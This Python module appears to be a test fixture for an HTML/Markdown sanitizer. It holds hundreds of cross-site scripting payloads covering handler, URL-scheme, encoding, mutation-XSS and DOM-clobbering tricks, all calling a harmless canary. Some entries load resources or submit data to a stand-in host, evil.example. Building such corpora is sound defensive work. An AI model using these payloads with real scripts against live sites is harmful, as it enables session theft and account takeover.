"""Texts that try to run script, load something, or leave their frame when they are rendered.

Every vector calls the canary `__xss()`. Known families (event handlers, URL schemes, mutation XSS,
foreign content, broken nesting, DOM clobbering), crossed with tags, encodings and Markdown forms.
"""

from __future__ import annotations

CALL = "window.__xss=1"

_HANDLERS = [
    "onerror",
    "onload",
    "onclick",
    "onmouseover",
    "onfocus",
    "onblur",
    "ontoggle",
    "onstart",
    "onbegin",
    "onend",
    "onanimationstart",
    "ontransitionend",
    "onpointerenter",
    "onscroll",
    "onwheel",
    "onbeforematch",
    "onsecuritypolicyviolation",
    "oncontentvisibilityautostatechange",
    "onpagereveal",
    "onfullscreenchange",
]

_SCHEMES = (
    f"javascript:{CALL}", f"JaVaScRiPt:{CALL}", f"java\tscript:{CALL}", f"java\nscript:{CALL}",
    f"&#106;avascript:{CALL}", f"&#x6A;avascript:{CALL}", f"javascript&colon;{CALL}", f"\x01javascript:{CALL}",
    f"  javascript:{CALL}", f"javascript&Tab;:{CALL}", f"vbscript:{CALL}", f"data:text/html,<script>{CALL}</script>",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==", f"data:image/svg+xml,<svg onload={CALL}>",
    f"blob:{CALL}", f"feed:javascript:{CALL}", f"view-source:javascript:{CALL}", f"javascript:/*--></title></style></textarea></script>*/{CALL}",
    f"//evil.example/%0a{CALL}", f"\\\\evil.example\\{CALL}", f"/\\evil.example/{CALL}", "https:evil.example", "about:blank",
)  # fmt: skip

_TAGS_WITH_HANDLER = (
    "img src=x", "svg", "svg/", "body", "video src=x", "audio src=x", "input autofocus", "details open",
    "marquee", "iframe", "object data=x", "embed src=x", "select autofocus", "textarea autofocus",
    "form", "math", "style", "link rel=stylesheet href=x", "script src=x", "image src=x", "isindex", "keygen",
    "a id=x tabindex=1", "button autofocus", "p", "table background=x", "td background=x", "custom-element",
)  # fmt: skip

_STRUCTURES = (
    f"<script>{CALL}</script>", f"<SCRIPT>{CALL}</SCRIPT>", f"<scr<script>ipt>{CALL}</scr</script>ipt>",
    f"<script\n>{CALL}</script\n>", f"<script/x>{CALL}</script>", f"<<script>{CALL}//<</script>",
    f"<script src=data:text/javascript,{CALL}></script>", f"<script type=module>{CALL}</script>",
    f"<iframe srcdoc='<script>parent.{CALL}</script>'></iframe>", f'<iframe srcdoc="&lt;img src=x onerror=parent.{CALL}&gt;"></iframe>',
    f"<object data='data:text/html,<script>{CALL}</script>'></object>", f"<embed src='data:image/svg+xml,<svg onload={CALL}>'>",
    f"<base href='javascript:{CALL}//'><a href='x'>x</a>", "<base href='https://evil.example/'><img src=x>",
    f"<meta http-equiv=refresh content='0;url=javascript:{CALL}'>", "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>", "<link rel=preload as=image href='https://evil.example/x.png'>",
    "<style>@import 'https://evil.example/x.css'; body{background:url(https://evil.example/x)}</style>",
    f"<style>*{{animation-name:x}}@keyframes x{{}}</style><b onanimationstart={CALL}>x</b>",
    f"<div style='background:url(javascript:{CALL})'>x</div>", "<div style='background:url(https://evil.example/x)'>x</div>",
    "<div style='position:fixed;inset:0'>over everything</div>", f"<div style='width:expression({CALL})'>x</div>",
    "<video poster=https://evil.example/x.png>", "<picture><source srcset=https://evil.example/x.png><img src=x></picture>",
    "<img srcset='https://evil.example/x.png 1x' src=x>", "<img src=https://evil.example/x.png>", "<img src='//evil.example/x.png'>",
    "<input type=image src=https://evil.example/x.png>", "<body background=https://evil.example/x.png>",
    "<audio autoplay src=https://evil.example/x.mp3></audio>", "<track src=https://evil.example/x>",
    f"<svg><script>{CALL}</script></svg>", f"<svg><script href='data:text/javascript,{CALL}'/></svg>",
    f"<svg><a xlink:href='javascript:{CALL}'><text y=9>x</text></a></svg>", f"<svg><animate attributeName=href values='javascript:{CALL}'/></svg>",
    f"<svg><set attributeName=onmouseover to={CALL}></svg>", f"<svg><foreignObject><iframe srcdoc='<script>parent.{CALL}</script>'></iframe></foreignObject></svg>",
    f"<svg><use href='data:image/svg+xml,<svg id=x onload={CALL}>#x'/></svg>", "<svg><image href=https://evil.example/x.png /></svg>",
    f"<svg><style><img src=x onerror={CALL}></style></svg>", f"<svg><desc><img src=x onerror={CALL}></desc></svg>",
    f"<svg><title><img src=x onerror={CALL}></title></svg>", f'<svg></p><style><a id="</style><img src=1 onerror={CALL}>">',
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={CALL}&gt;">',
    f"<math><mtext><table><mglyph><style><math><img src onerror={CALL}>", f"<math href='javascript:{CALL}'>x</math>",
    f"<math><maction actiontype=statusline xlink:href='javascript:{CALL}'>x</maction></math>",
    f"<math><annotation-xml encoding=text/html><img src=x onerror={CALL}></annotation-xml></math>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={CALL}>",
    f'<noscript><p title="</noscript><img src=x onerror={CALL}>">', f'<textarea><img title="</textarea><img src=x onerror={CALL}>">',
    f'<title><img title="</title><img src=x onerror={CALL}>">', f'<xmp><p title="</xmp><img src=x onerror={CALL}>">',
    f'<iframe><p title="</iframe><img src=x onerror={CALL}>">', f'<noembed><p title="</noembed><img src=x onerror={CALL}>">',
    f'<noframes><p title="</noframes><img src=x onerror={CALL}>">', f"<plaintext><img src=x onerror={CALL}>",
    f"<template><script>{CALL}</script></template>", f"<template shadowrootmode=open><script>{CALL}</script></template>",
    f"<listing>&lt;img src=1 onerror={CALL}&gt;</listing>", f"<select><option><style></option></select><b><img src=x onerror={CALL}></style>",
    f"<!--><img src=x onerror={CALL}>-->", f"<!-- --!><img src=x onerror={CALL}> -->", f"<![CDATA[><img src=x onerror={CALL}>]]>",
    f"<?xml-stylesheet href='javascript:{CALL}'?>", f"<!DOCTYPE x [<!ENTITY x '<script>{CALL}</script>'>]>&x;",
    f"</p></div></main><script>{CALL}</script>", f"</article></body></html><img src=x onerror={CALL}>",
    f"<a href=\"x\" title=\"'><img src=x onerror={CALL}>\">x</a>", f"<p title='\"><img src=x onerror={CALL}>'>x</p>",
    f'<img alt="`" src=x onerror={CALL}//`>', f"<img/src=x/onerror={CALL}>", f"<img\x0csrc=x\x0conerror={CALL}>",
    f"<img src=x onerror\x0b={CALL}>", f'<img src="x"onerror="{CALL}">', f"<IMG SRC=x ONERROR={CALL}>",
    f"<img src=x:x onerror={CALL}>", f"<img src=x oneonerrorrror={CALL}>", f"<a onclick={CALL} href=#>x</a>",
    "<form action=https://evil.example/><button>x</button></form>", f"<form><button formaction='javascript:{CALL}'>x</button></form>",
    f"<isindex type=image src=1 onerror={CALL}>", f"<x onclick={CALL} tabindex=1>x</x>", "<form id=x><input name=attributes></form>",
    "<a id=location><a id=location name=href href='https://evil.example'>", "<img name=cookie><img name=body><form name=getElementById>",
    "<button popovertarget=x>x</button><div popover id=x>y</div>", "<dialog open>over</dialog>", "<portal src=https://evil.example>",
    "<iframe src=https://evil.example/></iframe>", "<frameset><frame src=https://evil.example/></frameset>", "<applet code=x></applet>",
    "<a href=/logout ping=https://evil.example/>x</a>", "<a href=x target=_top download>x</a>", "<div contenteditable autofocus>x</div>",
    "<label for=field-name>x</label>", "<b class='button button-primary menu-sheet' id=content>x</b>", "<b is=x slot=y part=z>x</b>",
    f"<p>\u2028<script>{CALL}</script>\u2029</p>", f"<scr\x00ipt>{CALL}</scr\x00ipt>", f"\ufeff<script>{CALL}</script>",
    f"<{'a' * 5000}><img src=x onerror={CALL}>", "<div>" * 600 + f"<img src=x onerror={CALL}>", f"{'<b><i>' * 300}<script>{CALL}</script>",
    f"<table><tr><td><table><svg><style></table><img src=x onerror={CALL}></style>", f"<b <script>{CALL}</script>>x</b>",
)  # fmt: skip

_MARKDOWN = (
    "[x]({0})", "![x]({0})", "<{0}>", "[x][y]\n\n[y]: {0}", "![x][y]\n\n[y]: {0}", "[![x](y)]({0})",
)  # fmt: skip

_MARKDOWN_ONLY = (
    f'```"><script>{CALL}</script>\ncode\n```', f"```html\n<script>{CALL}</script>\n```", f"    <script>{CALL}</script>",
    f"`<script>{CALL}</script>`", f"# <img src=x onerror={CALL}>", f'# x" onmouseover={CALL} y="', f"[x](y \"' onmouseover={CALL} x='\")",
    f'![" onerror={CALL} x="](x)', f"|<img src=x onerror={CALL}>|\n|-|\n|<script>{CALL}</script>|", f"$<script>{CALL}</script>$",
    f"$$\n</code><script>{CALL}</script>\n$$", f"[^x]\n\n[^x]: <script>{CALL}</script>", f"[^<img src=x onerror={CALL}>]\n\n[^<img src=x onerror={CALL}>]: x",
    f"- [x] <img src=x onerror={CALL}>", f"<details><summary>x</summary>\n\n<script>{CALL}</script>\n\n</details>", f"~~<script>{CALL}</script>~~",
    f"> <iframe srcdoc='<script>parent.{CALL}</script>'>", f"[a](<javascript:{CALL}>)", f'<a href="[x](javascript:{CALL})">x</a>',
    f"\\<script>{CALL}</script>", f"&lt;script&gt;{CALL}&lt;/script&gt;", f"<div>\n\n[x](javascript:{CALL})\n\n</div>", f"***<script>{CALL}</script>***",
    "[x](https://evil.example/ 'x')", "![x](https://evil.example/x.png)", "[back](../../../../settings/tokens)", "![up](../../../../x.png)", '[f](#"onclick=x)',
)  # fmt: skip


# Families that were found after the first list: what a parser makes of it the second time, entities
# without an end, names that only look like letters, and what Markdown makes of Markdown.
_LATER = (
    f'<math><annotation-xml encoding="text/html"><style><img title="</style><img src onerror={CALL}>">',
    f'<svg><annotation-xml><foreignobject><style><!--</style><p id="--><img src onerror={CALL}>">',
    f'<math><mi><mglyph><svg><mtext><textarea><a title="</textarea><img src=x onerror={CALL}>">',
    f'<form id=a></form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror={CALL} src>">',
    f"<svg><font color=x><style><img src=x onerror={CALL}></style></font></svg>", f"<svg><p><title><style></title><img src=x onerror={CALL}></style>",
    f'<table><svg><desc><table><style><a title="</style><img src=x onerror={CALL}>">', f'<select><svg><style><a id="</style><img src=x onerror={CALL}>">',
    f'<a><svg><a><style><b title="</style><img src=x onerror={CALL}>">', f"<noscript><style></noscript><img src=x onerror={CALL}></style>",
    f"<template><style></template><img src=x onerror={CALL}></style>", f"<template><template></template><img src=x onerror={CALL}></template>",
    f"<div><template shadowrootmode=open><slot></slot><img src=x onerror={CALL}></template>x</div>", f"<svg onload&equals;{CALL}>", "<svg onload=&#119;indow.__xss&#61;1>",
    f"<img src=x on&#101;rror={CALL}>", f"&lt;img src=x onerror={CALL}&gt", f"&#60;img src=x onerror={CALL}&#62;", f"&#x3c;script&#x3e;{CALL}&#x3c;/script&#x3e;",
    f"&amp;lt;script&amp;gt;{CALL}&amp;lt;/script&amp;gt;", f"\uff1cscript\uff1e{CALL}\uff1c/script\uff1e", f"\u003cscript\u003e{CALL}\u003c/script\u003e",
    f"+ADw-script+AD4-{CALL}+ADw-/script+AD4-", f"%3Cscript%3E{CALL}%3C/script%3E", f"<\u017fcript>{CALL}</\u017fcript>", f"<\u212aeygen autofocus onfocus={CALL}>",
    f"<img src=x onerror={CALL.replace('=', chr(0x2028) + '=')}>", f"'-({CALL})-'", f'";{CALL};//', f"';{CALL};//", f"`;{CALL};//", f"${{{CALL}}}", f"{{{{ {CALL} }}}}", "{{ [].constructor.constructor('window.__xss=1')() }}", "{% raw %}<script>window.__xss=1</script>{% endraw %}",
    f'" onmouseover={CALL} x="', f"' onmouseover={CALL} x='", f'"><script>{CALL}</script>', f"'><script>{CALL}</script>", f"--><script>{CALL}</script><!--",
    f"]]><script xmlns='http://www.w3.org/1999/xhtml'>{CALL}</script>", f"<x:script xmlns:x='http://www.w3.org/1999/xhtml'>{CALL}</x:script>", f"</title></textarea></style></script><script>{CALL}</script>",
    f"</pre></code></td></tr></table><script>{CALL}</script>", f"<svg><set href=#a attributeName=href to=javascript:{CALL} /><a id=a><text y=9>x</text></a></svg>",
    f"<svg><animate xlink:href=#b attributeName=href from=javascript:{CALL} to=1 /><a id=b><text y=9>x</text></a></svg>", f"<svg><discard onbegin={CALL}></svg>",
    f"<iframe src=javascript:parent.{CALL}></iframe>", f"<iframe srcdoc=&lt;script&gt;parent.{CALL}&lt;/script&gt;></iframe>", f"<object type=text/html data=javascript:{CALL}></object>",
    f"<embed src=javascript:parent.{CALL}>", f"<a href=javascript&#x3A;{CALL}>x</a>", f"<a href='\x0bjavascript:{CALL}'>x</a>", f"<a href='java&#13;script:{CALL}'>x</a>", f"<a href=javascript:alert&lpar;1&rpar;,{CALL}>x</a>",
    f"[x](javascript&#58;{CALL})", f"[x](\\javascript:{CALL})", f"![x](x 'a' onerror={CALL})", f"[x]: javascript:{CALL}\n\n[x]", f"<javascript:{CALL}>", "[x](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg== 'x')",
    f"[<img src=x onerror={CALL}>](x)", f"`` ` ``<img src=x onerror={CALL}>`` ` ``", f'~~~ x" onclick={CALL} y="\nz\n~~~', f"<!-- x\n\n--><img src=x onerror={CALL}>", f"<?php\n\n?><img src=x onerror={CALL}>",
    f"@<script>{CALL}</script> #1<script>{CALL}</script>", f"https://x.example/<script>{CALL}</script>", f'https://x.example/"onmouseover={CALL}//', f"x@y.example?subject=<script>{CALL}</script>",
)  # fmt: skip


def vectors() -> list[str]:
    """All of them."""
    found = [
        f"<{tag} {handler}={CALL}>x"
        for tag, handler in zip(_TAGS_WITH_HANDLER, _HANDLERS * 2, strict=False)
    ]
    found += [
        f"<{tag} onerror={CALL} onload={CALL} onfocus={CALL} ontoggle={CALL}>x"
        for tag in _TAGS_WITH_HANDLER
    ]
    found += [f'<a href="{scheme}">x</a>' for scheme in _SCHEMES]
    found += [f'<img src="{scheme}">' for scheme in _SCHEMES]
    found += [form.format(scheme) for form in _MARKDOWN for scheme in _SCHEMES]
    found += [*_STRUCTURES, *_MARKDOWN_ONLY, *_LATER]
    return list(dict.fromkeys(found))
